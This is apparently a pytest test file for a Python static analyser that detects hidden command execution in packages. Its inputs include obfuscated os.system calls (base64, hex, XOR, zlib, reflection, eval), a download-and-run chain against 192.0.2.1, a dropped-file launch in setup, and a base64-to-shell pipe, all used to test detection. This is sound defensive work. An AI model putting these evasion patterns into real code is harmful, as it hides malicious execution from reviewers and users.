"""What the abstract reading of Python sees, by the facts it yields."""

from __future__ import annotations

import base64
import hashlib
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pratique.artifact import Member, Role
from pratique.facts.guard import ReadLimits, deep_stack
from pratique.facts.python.model import Call, Does, Source
from pratique.facts.python.reader import PythonReader, read_python
from pratique.finding import Phase
from pratique.names import Sha256

HIDDEN = "import os\nos.system('id')\n"
PACKED = base64.b64encode(zlib.compress(HIDDEN.encode()))


def _notes(source: str, limits: ReadLimits | None = None) -> list[str]:
    data = source.encode()
    member = Member(
        path="m.py", data=data, sha256=Sha256(hashlib.sha256(data).hexdigest()), size=len(data), role=Role.MODULE
    )
    with deep_stack():
        return [note.rule for facts in PythonReader(limits=limits).read(member) for note in facts.notes]


def _calls(source: str, role: Role = Role.MODULE) -> list[Call]:
    data = source.encode("utf-8", "surrogatepass")
    member = Member(path="m.py", data=data, sha256=hashlib.sha256(data).hexdigest(), size=len(data), role=role)  # type: ignore[arg-type]
    return list(read_python(member).calls)


@pytest.mark.parametrize(
    "source",
    [
        "import os as o\no.system('id')",
        "from os import system as s\ns('id')",
        "from os import *\nsystem('id')",
        "getattr(__import__('o' + 's'), 'sys' + 'tem')('id')",
        "import importlib\nimportlib.import_module('os').system('id')",
        "import sys, os\nsys.modules['os'].system('id')",
        "import os\nos.__dict__['system']('id')",
        "import os\nvars(os)['sys' 'tem']('id')",
        "globals()['__builtins__'].__dict__['__import__']('os').system('id')",
        "import posix\nposix.system('id')",
        "import os\nf = os.system\ndef g(a):\n    f(a)\ng('id')",
        "import os\n(lambda c: os.system(c))('id')",
        "import os\nfrom functools import partial\npartial(os.system, 'id')()",
        "import os\nlist(map(os.system, ['id']))",
        "import os, threading\nthreading.Thread(target=os.system, args=('id',))\nos.system('id')",
        "import os\nclass A:\n    def __init__(self):\n        self.c = 'id'\n        os.system(self.c)\nA()",
        "eval(\"__import__('os').system('id')\")",
    ],
)
def test_a_command_is_seen_however_it_is_named(source: str) -> None:
    """Aliases, reflection and the file's own functions do not hide a call or its argument."""
    found = [c for c in _calls(source) if c.name == "os.system" and c.arguments["0"].text == "id"]
    assert found
    assert found[0].phase is Phase.IMPORT


@pytest.mark.parametrize(
    ("source", "layers"),
    [
        (f"import base64\nexec(base64.b64decode({base64.b64encode(HIDDEN.encode())!r}))", ("base64",)),
        (f"exec(bytes.fromhex({HIDDEN.encode().hex()!r}))", ("hex",)),
        (f"exec({HIDDEN[::-1]!r}[::-1])", ("reverse",)),
        (f"exec(''.join(chr(c) for c in {[ord(c) for c in HIDDEN]}))", ("chr",)),
        (f"exec(''.join(chr(c ^ 7) for c in {[ord(c) ^ 7 for c in HIDDEN]}))", ("chr",)),
        (f"exec(bytes({list(HIDDEN.encode())}))", ("ints",)),
        (
            f"import base64, zlib\nexec(zlib.decompress(base64.b64decode({PACKED!r})))",
            ("base64", "zlib"),
        ),
    ],
)
def test_what_a_decoder_hid_is_read_again(source: str, layers: tuple[str, ...]) -> None:
    """Each decoder is undone, and the chain is kept outermost first."""
    found = [c for c in _calls(source) if c.name == "os.system"]
    assert [c.layers for c in found] == [layers]


def test_phases_follow_who_calls() -> None:
    """A function runs when its module is imported only if the module calls it."""
    calls = _calls("import os\ndef a():\n    os.system('a')\ndef b():\n    os.system('b')\na()\n")
    assert {(c.arguments["0"].text, c.phase) for c in calls} == {("a", Phase.IMPORT), ("b", Phase.CALL)}


def test_a_main_guard_is_the_users_call_except_in_setup() -> None:
    """`if __name__ == "__main__"` runs in setup.py, and elsewhere only when a person starts the file."""
    source = "import os\nif __name__ == '__main__':\n    os.system('a')\n"
    assert _calls(source)[0].phase is Phase.CALL
    assert _calls(source, Role.SETUP)[0].phase is Phase.INSTALL


def test_a_loop_that_gathers_nothing_is_turned_a_few_times() -> None:
    """What its body does with one item it does with all: no steps are burnt on the others."""
    calls = _calls("import os\nfor name in ('a', 'b', 'c', 'd', 'e', 'f'):\n    os.system(name)\n")
    assert [c.arguments["0"].text for c in calls] == ["a", "b", "c", "d"]


def test_a_loop_that_gathers_is_turned_to_its_end() -> None:
    """Text put together letter by letter is known."""
    calls = _calls(
        "import os\nt = ''\nfor c in 'tixe':\n    t = c + t\nwhile len(t) < 6:\n    t += '!'\nos.system(t)\n"
    )
    assert calls[0].arguments["0"].text == "exit!!"


def test_running_out_of_steps_is_reported_and_hides_no_line() -> None:
    """Code that burns the budget first is noted, and what stands behind it is still seen."""
    burn = "x = []\nfor i in range(9999):\n    for j in range(9999):\n        x.append(i + j)\n"
    data = f"import os\n{burn}def f():\n    os.system('id')\nf()\n".encode()
    member = Member(path="m.py", data=data, sha256="0" * 64, size=len(data), role=Role.MODULE)  # type: ignore[arg-type]
    facts = read_python(member)
    assert [n.rule for n in facts.notes] == ["evaluation-limit"]
    assert [c.name for c in facts.calls] == ["os.system"]


def test_labels_follow_a_value_through_functions_and_files() -> None:
    """What was fetched keeps its label through a function, a file and back."""
    source = (
        "import requests, subprocess\n"
        "def get(u):\n    return requests.get(u).content\n"
        "with open('/tmp/x', 'wb') as f:\n    f.write(get('http://192.0.2.1/x'))\n"
        "subprocess.Popen(['/tmp/x'])\n"
    )
    run = next(c for c in _calls(source) if Does.RUN_PROCESS in c.does)
    assert [t.detail for t in run.taints(Source.NETWORK)] == ["http://192.0.2.1/x"]


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                "x = x * 9999",
                "x = 'a' * x",
                "exec(x)",
                "x = [x, x] * 99",
                "x += x",
                "def f(a): return f(a)",
                "f(x)",
                "for i in range(10**9): x = i",
                "while 1: x = x + '1'",
                "x = 9 ** 9 ** 9",
                "x = '%99999d' % 1",
                "x = '{:99999}'.format(1)",
            ]
        ),
        max_size=12,
    )
)
def test_costly_code_stays_within_bounds(lines: list[str]) -> None:
    """No combination of expensive statements blows up; the reading ends with facts."""
    _calls("x = 2\n" + "\n".join(lines))


@settings(max_examples=100, deadline=None)
@given(st.binary(max_size=400))
def test_any_bytes_can_be_read(data: bytes) -> None:
    """Bytes that are no Python at all give facts, not an exception."""
    member = Member(path="m.py", data=data, sha256="0" * 64, size=len(data), role=Role.MODULE)  # type: ignore[arg-type]
    read_python(member)


def test_a_temporary_file_that_python_starts_is_read_as_python() -> None:
    """The interpreter's name is put together, the file's is not known: what was written is Python all the same."""
    calls = _calls(
        "import sys\nfrom os import system\nfrom tempfile import NamedTemporaryFile\n"
        "f = NamedTemporaryFile(delete=False)\nf.write(b'import os; os.remove(1)')\n"
        "system(f\"start {sys.executable.replace('.exe', 'w.exe')} {f.name}\")\n",
        Role.SETUP,
    )
    assert [(c.name, c.layers) for c in calls if c.layers] == [("os.remove", ("dropped file",))]


def test_what_a_program_encodes_itself_is_known() -> None:
    """A command that is encoded here and decoded by the shell."""
    calls = _calls("import os, base64\nos.system('echo %s|base64 -d|sh' % base64.b64encode(b'id').decode())\n")
    assert calls[0].arguments["0"].text == "echo aWQ=|base64 -d|sh"


def test_a_builtin_under_another_name_is_followed() -> None:
    """`setattr(__builtins__, ...)` makes names that no scope defines."""
    calls = _calls("setattr(__builtins__, '_____', exec)\n_____('import os; os.remove(1)')\n")
    assert "os.remove" in {c.name for c in calls}


def test_names_of_a_function_or_a_comprehension_are_its_own_on_every_path() -> None:
    """A branch that may not be taken calls it: what its names held in the turn before is no other choice."""
    source = (
        "import os, sys\n"
        "def run(words):\n"
        "    words = [str(word) for word in words]\n"
        "    os.system(' '.join(words))\n"
        "if sys.argv[1] == 'x':\n"
        "    run(['a', 'b'])\n"
        "else:\n"
        "    run(['libfoo-config', '--all'])\n"
    )
    assert [c.arguments["0"].text for c in _calls(source) if c.name == "os.system"] == ["a b", "libfoo-config --all"]


def test_what_is_called_too_deep_is_run_by_itself_in_its_phase() -> None:
    """A payload behind sixty functions runs when the file does, with what it was given; the report says so."""
    chain = "".join(f"def f{i}(a):\n    return f{i + 1}(a)\n" for i in range(60))
    source = f"import os\n{chain}def f60(a):\n    os.system(a)\nf0('id')\n"
    found = next(c for c in _calls(source) if c.name == "os.system")
    assert (found.phase, found.arguments["0"].text) == (Phase.IMPORT, "id")
    assert _notes(source) == ["evaluation-limit"]


@pytest.mark.parametrize(
    ("source", "rule"),
    [
        ("x = " + "-" * 3_000 + "1\n", "nesting-limit"),
        ("print 'old'\nx = 0777, " + ", ".join(["1L"] * 210_000) + "\n", "source-too-large"),
        ("exec('#' * 3_000_000 + 'import os')", "layer-limit"),
    ],
)
def test_a_limit_is_never_passed_in_silence(source: str, rule: str) -> None:
    """What was cut, or read apart from what it belongs to, is a finding."""
    assert _notes(source) == [rule]


def test_limits_of_the_evaluation_are_settings() -> None:
    """Fewer steps are used up sooner."""
    source = "x = [i * 2 for i in range(300)]\n"
    assert _notes(source) == []
    assert _notes(source, ReadLimits(steps=100)) == ["evaluation-limit"]
